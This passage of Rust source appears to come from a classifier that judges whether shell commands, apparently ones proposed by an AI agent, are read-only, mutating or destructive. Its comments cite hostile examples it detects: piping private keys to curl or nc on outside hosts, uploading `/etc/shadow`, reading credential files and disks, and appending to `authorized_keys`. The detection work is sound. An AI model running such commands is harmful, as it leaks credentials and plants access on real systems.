        .filter(|(i, _)| !no_file.contains(i))
        .map(|(_, a)| a)
    {
        let text = a.literal().unwrap_or(a.raw());
        let mut paths = Vec::new();
        for word in attached_files(program, text) {
            paths.extend(folders.resolve_reading(word));
            if cat_config {
                paths.push(format!("/etc/{}", word.trim_start_matches('/')));
            }
        }
        for p in paths {
            if let Some(format) = crate::secret_paths::credential_settings_file(&p) {
                formats.push(format);
                first.get_or_insert(a);
            }
        }
    }
    let file = first?;
    // (Each file's format must let the search show no setting: the
    // strictest of them, `grep user compose.yaml haproxy.cfg`; review 50.)
    let format = if formats.windows(2).any(|w| w[0] != w[1]) {
        crate::secret_paths::SettingsFormat::Other
    } else {
        formats[0]
    };
    let lits: Vec<&str> = args.iter().filter_map(Arg::literal).collect();
    // (jq's and yq's keys and counts show no value: `.services | keys`,
    // a path and then `keys` or `length`, nothing else; not `debug`,
    // `stderr` or `error` before them, nor `-R`; review 50.)
    let path_then_count = |w: &str| {
        let parts: Vec<&str> = w.split('|').map(str::trim).collect();
        matches!(parts.as_slice(), [path, "keys" | "keys_unsorted" | "length"]
            if path.starts_with('.')
                && path.chars().all(|c| c.is_ascii_alphanumeric() || matches!(c, '.' | '_' | '-' | '[' | ']' | '"')))
    };
    let counts = matches!(program, "jq" | "yq" | "gojq")
        && !lits.iter().any(|w| w.starts_with('-') && w.contains('R'))
        && lits.iter().any(|w| path_then_count(w));
    let quiet = counts || (searches && search::shows_no_setting(program, &lits, format));
    (!quiet).then_some(file)
}

/// The files a word may name: an operand itself, dd's `if=FILE`, a long
/// option's value (`--arg-file=/etc/pip.conf`), or a short option's
/// attached one, after whichever letter of the cluster takes it
/// (`-a/etc/pip.conf`, `-0a/etc/haproxy/haproxy.cfg`; review 52).
fn attached_files<'a>(program: &str, word: &'a str) -> Vec<&'a str> {
    if let Some(long) = word.strip_prefix("--") {
        return long
            .split_once('=')
            .map(|(_, value)| value)
            .into_iter()
            .collect();
    }
    if let Some(cluster) = word.strip_prefix('-') {
        return cluster
            .char_indices()
            .skip(1)
            .map(|(at, _)| cluster[at..].trim_start_matches('='))
            .filter(|value| !value.is_empty())
            .collect();
    }
    match program {
        "dd" => vec![word.strip_prefix("if=").unwrap_or(word)],
        _ => vec![word],
    }
}

/// Whether a grep prints a credential's lines by its setting's name
/// ([`search::prints_credential_lines`]).
pub(crate) fn prints_credential_lines(program: &str, args: &[Arg], upstream_private: bool) -> bool {
    // (A path `find` printed is a path under where it started.)
    let found = |raw: &str| {
        raw.strip_suffix(secrets::FOUND_UNDER)
            .is_some_and(|start| start.starts_with('/') && !start.contains(['$', '`']))
    };
    let words: Vec<Option<&str>> = args
        .iter()
        .map(|a| a.literal().or_else(|| found(a.raw()).then_some(a.raw())))
        .collect();
    // A sed script or an awk program that takes a credential's value, or
    // an awk field separator that ends at one (`awk -F'token='`), pulls
    // the values out of any file, a log known public too (review 95).
    if matches!(program, "sed" | "gsed" | "awk" | "gawk" | "mawk") {
        let lits: Vec<&str> = words.iter().flatten().copied().collect();
        let separator = lits
            .iter()
            .enumerate()
            .find_map(|(i, w)| match w.strip_prefix("-F") {
                Some("") => lits.get(i + 1).copied(),
                Some(value) => Some(value),
                None => None,
            });
        // (The scripts only, not the files: `access.log` is no pattern.)
        let scripts: Vec<&str> = if program.ends_with("sed") {
            // (Without `-e`, the first operand is the script.)
            match sed::scripts_and_files(&lits) {
                (scripts, files) if scripts.is_empty() => files.into_iter().take(1).collect(),
                (scripts, _) => scripts,
            }
        } else {
            awk_program(&lits).into_iter().collect()
        };
        if scripts.iter().any(|w| search::takes_credential_value(w))
            || separator.is_some_and(|f| {
                search::names_credential_value(f.trim_end_matches(['=', ':', ' ', '"', '\'']))
            })
        {
            return true;
        }
    }
    match program {
        "git" => programs::git::greps_credential_lines(&words),
        "sed" | "gsed" => sed::selects_credential_lines(&words, upstream_private),
        "awk" | "gawk" | "mawk" | "jq" | "yq" => {
            search::program_names_credential(program, &words, upstream_private)
        }
        _ => search::prints_credential_lines(program, &words, upstream_private),
    }
}

/// An awk program's text: the first word that is neither an option nor
/// the value of `-F`, `-v`, `-f` (`None` with `-f`: a file's program).
fn awk_program<'a>(lits: &[&'a str]) -> Option<&'a str> {
    let mut words = lits.iter().copied();
    while let Some(w) = words.next() {
        match w {
            "-f" | "--file" => return None,
            "-F" | "-v" | "--assign" | "--field-separator" => {
                words.next();
            }
            "--" => return words.next(),
            _ if w.starts_with('-') && w.len() > 1 => {}
            _ => return Some(w),
        }
    }
    None
}

/// Whether a command's text prints a file not known public
/// ([`search::prints_private_file`]).
pub(crate) fn prints_private_file(text: &str) -> bool {
    search::prints_private_file(text)
}

/// [`names_secret`] for a word known to name a file (a redirection's
/// source): an everyday word is the file of that name too.
pub(super) fn names_secret_file(word: &Arg, folders: &crate::secret_paths::Folders) -> bool {
    names_secret(word, folders)
        || word
            .literal()
            .is_some_and(|w| crate::secret_paths::file_names_secret(w, folders))
}

/// Secrets a command may print without naming them: a folder read
/// recursively that holds some (`grep -r . /etc`), a disk device (`cat
/// /dev/sda`), or a path only known at run time under such a folder
/// (`cat /etc/${x:-shadow}`, `cat "$f"`).
pub(super) fn prints_hidden_secret(
    name: &str,
    args: &[Arg],
    folders: &crate::secret_paths::Folders,
) -> Verdict {
    let respelled = respelled(name, args);
    let args = respelled.as_deref().unwrap_or(args);
    if let Some(verdict) = reveals::reveals(name, args, folders) {
        return verdict;
    }
    let lits: Vec<&str> = args.iter().filter_map(Arg::literal).collect();
    if let Some(folder) = secrets::recursive_secret_folder(name, &lits, folders) {
        return reads_secret(&format!("the folder {folder} recursively"));
    }
    // A folder only known at run time (`grep -r x /var/lib/vz/ima$u"ges"`)
    // may be any folder: read as `/`.
    if let Some(dynamic) = args
        .iter()
        .find(|a| a.is_dynamic() && !a.raw().starts_with('-'))
    {
        let mut anywhere = lits.clone();
        anywhere.push("/");
        if secrets::recursive_secret_folder(name, &anywhere, folders).is_some() {
            return reads_secret(&format!(
                "{}, a folder only known at run time, recursively",
                dynamic.raw()
            ));
        }
    }
    // (A digest of a secret file, but not of a disk or a file too long
    // to guess: [`secrets::digests`].)
    let digest = secrets::digests(name);
    if !(secrets::prints_files(name) || digest) || secrets::only_lists(name, &lits) {
        return Verdict::read_only("names no secret");
    }
    for arg in file_operands(name, args) {
        // Process substitutions are judged as commands of their own; the
        // classifier's stand-ins for `xargs` input are not paths.
        if arg.raw().starts_with(['<', '>']) {
            continue;
        }
        let dynamic = arg.is_dynamic();
        if digest && secrets::bulk(arg.raw()) {
            continue;
        }
        if (dynamic || !digest) && secrets::may_print_secret(arg.raw(), dynamic, folders) {
            return reads_secret(arg.raw());
        }
        // A file operand is a file even when its name is also an everyday
        // word (`cat token`, `base64 password`: `/root/token`), which
        // `grep -i password` alone is not (thirty-second review).
        if let Some(word) = arg.literal()
            && crate::secret_paths::file_names_secret(word, folders)
        {
            return reads_secret(arg.raw());
        }
    }
    Verdict::read_only("names no secret")
}

/// The words of a printing program's line that name files it prints: not
/// its options, not the pattern or program of those whose first operand
/// is one, not the columns `cut` leaves out or awk's options' values, not
/// a manual page by name.
fn file_operands<'a>(name: &str, args: &'a [Arg]) -> Vec<&'a Arg> {
    // Programs whose first operand is a pattern or a program, not a file.
    let pattern_first = matches!(
        name,
        "grep"
            | "egrep"
            | "fgrep"
            | "zgrep"
            | "rg"
            | "sed"
            | "awk"
            | "gawk"
            | "mawk"
            | "jq"
            | "yq"
            | "look"
            | "tr"
    );
    // (`cut -d: -f1 /etc/shadow`: the secret columns left out.)
    let cut_safe = match name {
        "cut" => secrets::cut_leaves_out_secrets(args),
        // (And its options' values, `-F, -v d="$(date +%F)"`: no file.)
        "awk" | "gawk" | "mawk" => awk_words_naming_no_file(name, args),
        _ => Vec::new(),
    };
    // (With its script or pattern given to an option, `grep token -e .`,
    // `sed -e p token`, `awk -f prog.awk token`, every operand is a file;
    // review 142.)
    let given = args.iter().filter_map(Arg::literal).any(|w| {
        let option = w.split('=').next().unwrap_or(w);
        matches!(option, "--regexp" | "--file" | "--expression")
            || (w.starts_with('-') && !w.starts_with("--") && w[1..].contains(['e', 'f']))
    });
    let pattern_first = pattern_first && !given;
    // (The pattern or script an option is given stays no file: `grep -e
    // id_rsa LOG`; review 143.)
    let given_values: Vec<usize> = args
        .iter()
        .enumerate()
        .filter(|(_, a)| {
            a.literal().is_some_and(|w| {
                matches!(w, "--regexp" | "--expression")
                    || (w.starts_with('-') && !w.starts_with("--") && w.ends_with('e'))
            })
        })
        .map(|(i, _)| i + 1)
        .collect();
    // (man-db opens an operand as a file only when it holds a `/`:
    // `man 5 shadow` is a page; review 124.)
    let page_names = matches!(name, "man" | "info" | "whatis" | "apropos");
    args.iter()
        .enumerate()
        .filter(|(i, a)| {
            let pattern_value = given && given_values.contains(i);
            !(a.raw().starts_with('-') || cut_safe.contains(i) || pattern_value)
        })
        .filter(|(_, a)| !(page_names && a.literal().is_some_and(|w| !w.contains('/'))))
        .map(|(_, a)| a)
        .skip(usize::from(pattern_first))
        .collect()
}

/// The verdict for a command that names a secret file among its words.
pub(super) fn reads_secret(path: &str) -> Verdict {
    Verdict::mutation(format!(
        "reads {path}, which holds secrets: its output would reach the model and the room"
    ))
    .printing(crate::Output::Secret)
}

/// Writing output to `target` (a redirection, `tee`, `dd of=`).
pub(super) fn write_target(target: &Arg, folders: &crate::secret_paths::Folders) -> Verdict {
    write_target_as(target, false, folders)
}

/// [`write_target`], appending (`>>`) or not: appending to a file the host
/// needs changes it; writing over one can lose it.
pub(super) fn write_target_as(
    target: &Arg,
    append: bool,
    folders: &crate::secret_paths::Folders,
) -> Verdict {
    let Some(path) = target.literal() else {
        return Verdict::destructive(format!(
            "writes to `{}`, a target only known at run time",
            target.raw()
        ));
    };
    // A glob names only files that exist (bash expands a redirection's
    // word when it matches one): writing over one, whichever it is
    // (`ls > /e*/passwd`; review 85).
    if target.is_glob() && !append {
        return Verdict::destructive(format!(
            "writes over {path}, whatever existing file the pattern matches"
        ));
    }
    // (Appended to, where the system keeps the files it runs or trusts:
    // `>> /root/.ssh/authorized_key?`, `>> /etc/passw?`; review 87.)
    if target.is_glob() {
        let fixed = &path[..path.find(['*', '?', '[']).unwrap_or(path.len())];
        let system = [
            "/etc/",
            "/root/",
            "/home/",
            "/boot/",
            "/usr/",
            "/var/spool/cron",
            "/lib/",
        ]
        .iter()
        .any(|d| fixed.starts_with(d))
            || path.contains(".ssh");
        if system {
            return Verdict::destructive(format!(
                "appends to {path}, whatever existing file the pattern matches among the \
                 files the system runs or trusts"
            ));
        }
    }
    // Every file the target may be, as the kernel resolves it after the
    // command's `cd`s (`cd /etc/network && cat x > interfaces`).
    let places = folders.resolve(path);
    let may_be = |test: &dyn Fn(&str) -> bool| test(path) || places.iter().any(|p| test(p));
    let sink = SINKS.contains(&path)
        || (!places.is_empty() && places.iter().all(|p| SINKS.contains(&p.as_str())));
    if sink {
        Verdict::read_only(format!("discards output to {path}"))
    } else if persist::runs_code(path, folders) {
        Verdict::destructive(format!(
            "writes {path}, which the system runs as code or trusts for access"
        ))
    } else if may_be(&|p| {
        p == "/proc/sysrq-trigger" || (p.starts_with("/dev/") && !SINKS.contains(&p))
    }) {
        Verdict::destructive(format!("writes to the device {path}"))
    } else if may_be(&loss::data_by_name) && !append {
        Verdict::destructive(format!("writes over {path}, {}", loss::DATA_BY_NAME))
    } else if may_be(&loss::critical) && !append {
        Verdict::destructive(format!(
            "writes over {path}, which the host needs to boot, log in, resolve or run its guests"
        ))
    } else if may_be(&|p| p.starts_with("/sys/")) {
        Verdict::destructive(format!(
            "writes to the kernel's device tree ({path}), which can remove or reset devices"
        ))
    } else if !append && overwrites_a_secret(path, &places) {
        // (Blind corpus 84: `wg genkey > /etc/wireguard/privatekey`.)
        Verdict::destructive(format!(
            "writes over {path}, a key or credential: what it held cannot be made again, \
             and whatever trusts it stops working"
        ))
    } else {
        Verdict::mutation(format!("writes to {path}"))
    }
}

/// Whether writing over `path` (or a file it resolves to) replaces a key
/// or credential in use, outside the scratch folders.
fn overwrites_a_secret(path: &str, places: &[String]) -> bool {
    let scratch = |p: &str| p.starts_with("/tmp/") || p.starts_with("/var/tmp/");
    let secret = |p: &str| !scratch(p) && crate::secret_paths::names_credential_in_use(p);
    if places.is_empty() {
        secret(path)
    } else {
        places.iter().any(|p| secret(p))
    }
}

// ---------------------------------------------------------------------------
// The judge.

fn base(program: &str) -> &str {
    program.rsplit('/').next().unwrap_or(program)
}

/// `PROGRAM --version` (or `--help`, `-V`) alone only prints, whatever the
/// program: worth knowing so a version check never waits for approval.
pub(super) fn only_prints_version(argv: &[Arg]) -> Option<Verdict> {
    let [program, flag] = argv else { return None };
    let path = program.literal().filter(|_| !program.is_glob())?;
    let name = base(path);
    // Only a program that is known, from where programs live: `./evil
    // --version` and `{} --version` run whatever they are.
    let from_a_program_directory = !path.contains('/')
        || [
            "/usr/bin/",
            "/bin/",
            "/usr/sbin/",
            "/sbin/",
            "/usr/local/bin/",
        ]
        .iter()
        .any(|dir| {
            path.strip_prefix(dir)
                .is_some_and(|rest| !rest.contains('/'))
        });
    let known = super::tables::spec(name, &[]).is_some()
        || is_reader(name)
        || VERSIONED.contains(&name)
        || INTERPRETERS.contains(&name)
        || name.starts_with("python");
    if !from_a_program_directory || !known {
        return None;
    }
    // (terraform and packer ask HashiCorp's Checkpoint service even for
    // their version: their own rule reads the environment; reviews 65,
    // 66.)
    if SHELLS.contains(&name)
        || matches!(
            name,
            "sudo"
                | "env"
                | "eval"
                | "exec"
                | "xargs"
                | "timeout"
                | "nice"
                | "nohup"
                | "terraform"
                | "packer"
        )
    {
        return None;
    }
    // (An interpreter's own version and module lists, no code run: `php
    // -v`, `php -m`, `perl -v`, `node -v`; blind corpus 40.)
    let own = match name {
        "php" => matches!(flag.literal(), Some("-v" | "-m")),
        // (ruby, mvn: `-v` alone prints the version and exits; python's
        // `-VV` and rustc's `-vV` the build's details too; blind corpus
        // 132.)
        "perl" | "node" | "nodejs" | "make" | "gmake" | "grafana-server" | "ruby" | "mvn" => {
            flag.literal() == Some("-v")
        }
        "rustc" => matches!(flag.literal(), Some("-vV" | "-Vv")),
        _ if name.starts_with("python") => flag.literal() == Some("-VV"),
        _ => false,
    };
    (own || matches!(
        flag.literal(),
        Some("--version" | "--help" | "-V" | "-version")
    ))
    .then(|| Verdict::read_only(format!("`{name}` only prints its version or usage")))
}

/// The variables `read`, `printf -v`, `mapfile`/`readarray`, `declare`
/// and their kin assign.
fn assigned_names<'a>(name: &str, args: &'a [Arg]) -> Vec<&'a str> {
    let lits: Vec<&str> = args.iter().filter_map(Arg::literal).collect();
    let base = |w: &'a str| w.split(['=', '[']).next().unwrap_or(w);
    // Where the builtin's own table reads the line (bash's getopt: `read
    // -rp -u PS4` gives `-p` the prompt `-u`), its operands are the names
    // (`getopts`: the second; `read -a NAME` too).
    let reading = matches!(name, "read" | "mapfile" | "readarray" | "getopts")
        .then(|| crate::tables::reading(name, args))
        .flatten();
    if let Some(line) = reading {
        let operands = line.operands.iter().filter_map(|a| a.literal());
        let arrays = line.values(&["a"]).filter_map(|v| match v {
            Some(crate::options::Value::Text(t)) => Some(t),
            _ => None,
        });
        return match name {
            "getopts" => operands.skip(1).take(1).map(base).collect(),
            _ => operands.chain(arrays).map(base).collect(),
        };
    }
    match name {
        "printf" => lits
            .windows(2)
            .filter(|p| p[0] == "-v")
            .map(|p| base(p[1]))
            .chain(
                lits.iter()
                    .filter_map(|w| w.strip_prefix("-v").filter(|v| !v.is_empty()))
                    .map(base),
            )
            .collect(),
        "read" | "mapfile" | "readarray" => {
            let valued: &[&str] = match name {
                "read" => &["-a", "-d", "-i", "-n", "-N", "-p", "-t", "-u"],
                _ => &["-d", "-n", "-O", "-s", "-u", "-C", "-c"],
            };
            let mut out = Vec::new();
            let mut skip = false;
            for w in &lits {
                if skip {
                    skip = false;
                } else if valued.contains(w) {
                    skip = true;
                    if *w == "-a" {
                        skip = false;
                    }
                } else if !w.starts_with('-') {
                    out.push(base(w));
                }
            }
            out
        }
        // `getopts OPTSTRING NAME`: NAME gets each option letter, or `?`.
        "getopts" => lits
            .iter()
            .filter(|w| !w.starts_with('-'))
            .nth(1)
            .map(|w| base(w))
            .into_iter()
            .collect(),
        // `unset PATH` leaves bash its default search path, `.` included.
        "unset" => lits
            .iter()
            .filter(|w| !w.starts_with('-'))
            .copied()
            .collect(),
        "let" => lits
            .iter()
            .filter(|w| w.contains('='))
            .map(|w| base(w))
            .collect(),
        "declare" | "typeset" | "local" | "export" | "readonly" => lits
            .iter()
            .filter(|w| !w.starts_with('-') && w.contains('='))
            .map(|w| base(w))
            .collect(),
        _ => Vec::new(),
    }
}

/// Programs none of whose options write, delete or run anything: a word
/// that turns out to be an option (a file named `-x` matched by `*`) can
/// at worst make them print otherwise.
#[rustfmt::skip]
pub(crate) const OPTIONS_HARMLESS: &[&str] = &[
    // (Not wc nor the checksum tools: a file named `-c` or
    // `--files0-from=L` makes them open every file a list names.)
    "echo", "printf", "ls", "cat", "head", "tail", "stat", "du", "grep", "egrep",
    "fgrep", "zgrep", "basename", "dirname", "readlink", "realpath", "test", "[", "true", "false", "tac", "nl",
    "od", "hexdump", "strings", "base64", "cut", "tr", "column", "cmp", "comm", "lsattr",
    "getfacl", "namei", "dir", "vdir", "zcat", "bzcat", "xzcat",
];

/// Programs of [`OPTIONS_HARMLESS`] that show only names and metadata,
/// never contents, and read no list of names from a file: any word they
/// are given, option or operand, can at worst make them show other
/// metadata. (`wc`, `du` and the checksum tools are not here: their
/// `--files0-from=F` and `-c F` echo the lines of F in their messages.)
#[rustfmt::skip]
pub(crate) const LOOKS_ONLY: &[&str] = &[
    "ls", "dir", "vdir", "stat", "basename", "dirname", "readlink", "realpath", "lsattr",
    "getfacl", "namei",
];

/// The words that are neither options nor the values of the options in
/// `valued` (which take the next word): a program's operands, as far as
/// a rule needs them.
pub(super) fn plain_words<'a>(words: &[&'a str], valued: &[&str]) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut skip = false;
    for word in words {
        if skip {
            skip = false;
        } else if valued.contains(word) {
            skip = true;
        } else if !word.starts_with('-') {
            out.push(*word);
        }
    }
    out
}

/// `systemctl`'s options that take a value (systemd 252).
#[rustfmt::skip]
pub(super) const SYSTEMCTL_VALUED: &[&str] = &[
    "-H", "--host", "-M", "--machine", "-t", "--type", "-p", "-P", "--property", "-s",
    "--signal", "--state", "-n", "--lines", "-o", "--output", "--root", "--kill-whom",
    "--job-mode", "--what", "--timestamp", "--boot-loader-entry", "--reboot-argument",
    "--message", "--when",
];

/// `kubectl`'s global options and listing options that take a value.
#[rustfmt::skip]
const KUBECTL_VALUED: &[&str] = &[
    "-n", "--namespace", "--context", "--cluster", "--user", "--kubeconfig", "-s", "--server",
    "--token", "--request-timeout", "-v", "--as", "-l", "--selector", "-o", "--output",
];

/// The plain words of `args` from the program's verb on. The verb is
/// where the program's own table finds it: one parser, so an option the
/// table lets through before the verb (and its value) cannot hide the
/// verb from a rule. Where no table with verbs reads the line (an option
/// it does not list: the command is not read-only anyway), the hand-kept
/// lists of [`after_globals`] decide. Programs outside [`VERB_RULES`]
/// get all their words: their rules read every word.
pub(super) fn from_verb<'a>(name: &str, args: &'a [Arg]) -> Vec<&'a str> {
    let all: Vec<&str> = args.iter().filter_map(Arg::literal).collect();
    if !VERB_RULES.contains(&name) {
        return all;
    }
    if let Some(i) = crate::tables::verb_index(name, args) {
        return args[i..].iter().filter_map(Arg::literal).collect();
    }
    after_globals(name, &all).to_vec()
}

/// Programs whose rules judge a verb and the words after it.
#[rustfmt::skip]
const VERB_RULES: &[&str] = &[
    "docker", "podman", "nerdctl", "kubectl", "oc", "systemctl", "systemd-analyze", "pvenode",
    "pvesh", "journalctl", "busctl",
];

/// `words` from the program's verb on: its global options, and the values
/// of those that take one, skipped (by hand-kept lists: for lines no
/// table reads, see [`from_verb`]).
pub(super) fn after_globals<'a, 'w>(name: &str, words: &'a [&'w str]) -> &'a [&'w str] {
    let valued: &[&str] = match name {
        "docker" | "podman" | "nerdctl" => &[
            "-l",
            "--log-level",
            "-H",
            "--host",
            "-c",
            "--context",
            "--config",
        ],
        "kubectl" | "oc" => KUBECTL_VALUED,
        "systemctl" => SYSTEMCTL_VALUED,
        "systemd-analyze" => &[
            "-H",
            "--host",
            "-M",
            "--machine",
            "--root",
            "--image",
            "--iterations",
        ],
        "pvenode" | "pvesh" => &["--output-format"],
        "journalctl" => &[],
        _ => return words,
    };
    let mut i = 0;
    while let Some(w) = words.get(i) {
        if valued.contains(w) {
            i += 2;
        } else if w.starts_with('-') {
            i += 1;
        } else {
            break;
        }
    }
    &words[i.min(words.len())..]
}

/// Whether `kill`'s first word is signal 0 (`-0`, `-s 0`, `-n 0`,
/// `-SIG0`), after which bash reads every word as a process id.
pub(super) fn signal_zero_first(args: &[Arg]) -> bool {
    let first = args.first().and_then(Arg::literal);
    let rest = match first {
        Some("-0" | "-SIG0") => &args[1..],
        Some("-s" | "-n")
            if args
                .get(1)
                .and_then(Arg::literal)
                .is_some_and(|v| matches!(v, "0" | "SIG0")) =>
        {
            &args[2..]
        }
        _ => return false,
    };
    // Every later word a process id: digits, or the output of a lookup
    // that prints only numbers. Anything else may be read as a signal
    // again (bash's later `-s 9`, `/usr/bin/kill --sig=KILL`, a variable
    // holding `-s 9`). A pid file's content is anyone's who can write it
    // (`-s KILL -1` kills every process): only one, quoted, so it is one
    // word, which bash reads as a pid or refuses.
    fn substituted(a: &Arg) -> Option<(&str, bool)> {
        let raw = a.raw();
        let body = raw
            .trim_matches('"')
            .strip_prefix("$(")
            .and_then(|r| r.strip_suffix(')'))
            .filter(|b| !b.contains(['$', '`', ';', '|', '&', '>', '<', '\n', '(', ')']))?;
        let quoted = raw.len() > 2 && raw.starts_with('"') && raw.ends_with('"');
        Some((body, quoted))
    }
    let pid_file = |a: &Arg| {
        substituted(a).is_some_and(|(body, quoted)| {
            quoted
                && (body.starts_with("cat /run/") || body.starts_with("cat /var/run/"))
                && body.split_whitespace().count() == 2
        })
    };
    if let [only] = rest
        && pid_file(only)
    {
        return true;
    }
    rest.iter().all(|a| match a.literal() {
        Some(word) => !word.is_empty() && word.chars().all(|c| c.is_ascii_digit()),
        None => substituted(a).is_some_and(|(body, _)| {
            (body.starts_with("pidof ") || body.starts_with("pgrep "))
                && crate::sources::plain_fields(body)
        }),
    })
}

/// `args` respelled by the program's table (see
/// [`crate::tables::respelled`]), but for ps, whose procps parser reads
/// `-auxe` as BSD's `auxe` when no user `xe` exists: its rule reads the
/// words as written.
pub(super) fn respelled(name: &str, args: &[Arg]) -> Option<Vec<Arg>> {
    let head = (name != "ps")
        .then(|| crate::tables::respelled(name, args))
        .flatten();
    // (Proxmox's CLIs: each spelling of an option the loss rules read,
    // as its full name; review 130.)
    if let Some(pve) = pve_spelling::respelled(name, head.as_deref().unwrap_or(args)) {
        return Some(pve);
    }
    if name != "ssh" {
        return head;
    }
    // ssh.c parses its options once more after the destination (`ssh
    // HOST -4F FILE CMD` is `-4 -F FILE`): those respelled too.
    let line = head.as_deref().unwrap_or(args);
    let host = first_positional_index(line, wrappers::SSH_VALUES)?;
    match crate::tables::respelled(name, &line[host + 1..]) {
        Some(tail) => Some(line[..=host].iter().cloned().chain(tail).collect()),
        None => head,
    }
}

/// A Proxmox CLI's line with its command words written in full
/// ([`pve_spelling`]); `None` for any other program or when none changed.
pub(crate) fn pve_command_words(name: &str, args: &[Arg]) -> Option<Vec<Arg>> {
    pve_spelling::commands_spelled(name, args)
}

/// Whether the line only asks a CLI for its help: its verbs (plain
/// words, at most three) then `--help` last, for CLIs whose parsers
/// print their help and exit on it (systemd's getopt, cobra's docker,
/// podman, kubectl, helm, restic; not `run`/`exec`/`create`, whose words
/// after the image go to the container); or Proxmox's CLIs' `help` verb
/// (`pveum help user add`, `vzdump help`). Review 93.
pub(crate) fn asks_for_help(name: &str, args: &[Arg]) -> bool {
    const HELP_OPTION: &[&str] = &[
        "systemctl",
        "journalctl",
        "docker",
        "podman",
        "kubectl",
        "helm",
        "restic",
    ];
    const HELP_VERB: &[&str] = &[
        "qm",
        "pct",
        "pvesm",
        "pveum",
        "pvecm",
        "pvenode",
        "pveceph",
        "ha-manager",
        "vzdump",
        "qmrestore",
        "pvesr",
        "proxmox-backup-manager",
        "proxmox-backup-client",
        "restic",
    ];
    let Some(words) = args.iter().map(Arg::literal).collect::<Option<Vec<&str>>>() else {
        return false;
    };
    let verb_like = |w: &&str| {
        !w.is_empty()
            && w.chars().all(|c| c.is_ascii_lowercase() || c == '-')
            && !w.starts_with('-')
    };
    match words.split_last() {
        Some((&"--help", verbs)) if HELP_OPTION.contains(&name) => {
            verbs.len() <= 3
                && verbs.iter().all(verb_like)
                && !verbs
                    .iter()
                    .any(|v| matches!(*v, "run" | "exec" | "create" | "debug"))
        }
        // (PVE's command lines stop at `--help` too, with their usage or
        // an error: `vzdump --help`; blind corpus 176.)
        _ => {
            HELP_VERB.contains(&name)
                && (words == ["--help"]
                    || (words.first() == Some(&"help")
                        && words.len() <= 4
                        && words[1..].iter().all(verb_like)))
        }
    }
}

/// Judges `name args…`. `name` is the program's base name.
pub(super) fn judge(
    w: &mut Walker,
    name: &str,
    args: &[Arg],
    stdin: Stdin<'_>,
    depth: usize,
) -> Verdict {
    // Every rule reads the line one option and one value to a word, as
    // the program's own table reads it (`read -rp -u PS4` is `-r -p -u
    // PS4`, `grep -sd recurse` is `-s -d recurse`, `sshd -tf X` is `-t -f
    // X`): a rule that looks for an option as a word of its own sees every
    // spelling the program takes.
    let respelled = respelled(name, args);
    let args = respelled.as_deref().unwrap_or(args);
    if asks_for_help(name, args) {
        return Verdict::read_only(format!("`{name}` only prints its help"));
    }
    if let Some(word) = run_time_option(name, args) {
        return Verdict::destructive(format!(
            "`{name}` has `{word}`, only known at run time where an option stands: it may be one \
             of `{name}`'s options that delete, overwrite or run"
        ))
        .printing(crate::Output::Unproven);
    }
    // A secret read's output sent out of the lab: it cannot be taken back
    // (`cat id_ed25519 | curl -F f=@- https://0x0.st`, `| nc HOST 80`),
    // or a secret file a sender is given (`curl -T /etc/shadow URL`, `-F
    // f=@FILE`, `-d @FILE`, `wget --post-file=FILE`, `scp FILE HOST:`).
    let piped = w.piped_secret && !matches!(stdin, Stdin::Text(_));
    let fed = piped || w.argument_secret || secrets::given_secret(name, args, &w.folders);
    if fed
        && let Some(place) = crate::egress::sends_out(&w.egress, name, args)
            .or_else(|| crate::egress::delivers_to(&w.egress, name, args))
            .or_else(|| {
                w.argument_secret
                    .then(|| crate::egress::dynamic_place(&w.egress, name, args))
                    .flatten()
            })
    {
        return Verdict::destructive(format!(
            "`{name}` sends a secret (or what a secret read or a command not known to be harmless \
             printed) to {place}, outside the \
             lab, where it cannot be taken back"
        ));
    }
    if let Some(v) = evaluates_names(name, args) {
        // Destructive when what is evaluated was set to command text in
        // this same command (`x='a[$(cmd)]'; let x`, `unset "$x"`).
        let text: Vec<&str> = args.iter().map(Arg::raw).collect();
        return v.max(w.evaluation(&text.join(" "), &[]));
    }
    if let Some(zone) = args
        .iter()
        .filter_map(Arg::literal)
        .find_map(zone_in_date_string)
    {
        return Verdict::mutation(format!(
            "`{name}` reads a date string that sets TZ to `{zone}`, a file the C library opens \
             (a device acts when opened)"
        ));
    }
    if let Some(v) = persist::judge(name, args, &w.folders) {
        return v;
    }
    if let Some(v) = recall::judge(name, args) {
        return v;
    }
    if name == "git" {
        let lits: Vec<&str> = args.iter().filter_map(Arg::literal).collect();
        // (Known to be a guest's: destructive; a folder only known at run
        // time asks where the rest only reads, [`crate::proven`].)
        if let Some(why) = programs::git::guest_repository(&lits, &w.folders)
            && !w.folders.unknown()
        {
            return Verdict::destructive(format!("`git` {why}"));
        }
    }
    // And again with its relative paths where the command's `cd`s led
    // (`cd /etc/network && cp x interfaces`).
    let placed = loss::judge_placed(name, args, &stdin, &w.folders);
    if let Some(v) = loss::judge(name, args, &stdin) {
        return placed.map_or(v.clone(), |p| v.max(p));
    }
    if let Some(v) = placed {
        return v;
    }
    if let Some(v) = wrappers::wrapper(w, name, args, stdin.clone(), depth) {
        return v;
    }
    if SHELLS.contains(&name) {
        return wrappers::shell(w, name, args, stdin, depth);
    }
    // `python3 -m MODULE` finds MODULE in the working folder first: in a
    // folder another user may write (a service's home such as
    // `/var/lib/postgresql`, `/tmp`, or one only known at run time), a
    // planted `json.py` runs. Root's own folders are safe.
    let module = name.starts_with("python") && args.first().and_then(Arg::literal) == Some("-m");
    // (`/usr/tmp` is `/var/tmp`: only the folders themselves.)
    let roots_own = |f: &String| {
        [
            "/",
            "/root",
            "/etc",
            "/usr",
            "/usr/bin",
            "/usr/sbin",
            "/usr/lib",
        ]
        .contains(&f.as_str())
            || f.starts_with("/root/")
    };
    let shared_cwd = || w.folders.unknown() || !w.folders.known().iter().all(roots_own);
    if module && shared_cwd() {
        return Verdict::destructive(format!(
            "`{name} -m` looks for the module in the working folder first, where anyone may have put one"
        ));
    }
    if let Some(file) = config_from_working_folder(name, args)
        && shared_cwd()
    {
        return Verdict::destructive(format!(
            "`{name}` may load `{file}` from the working folder, where anyone may have put one: it \
             decides what the program runs, reaches or reads"
        ));
    }
    // Terraform's `-chdir=DIR` moves there before it reads anything:
    // `cd / && tofu -chdir=tmp/tf state list` (review 68). Only a folder
    // of root's own: under /root or /etc, or relative to one under /root.
    if matches!(name, "terraform" | "tofu")
        && let Some(dir) = args.iter().filter_map(Arg::literal).find_map(|w| {
            w.strip_prefix("-chdir=")
                .or_else(|| w.strip_prefix("--chdir="))
        })
        && !chdir_roots_own(dir, &w.folders)
    {
        return Verdict::destructive(format!(
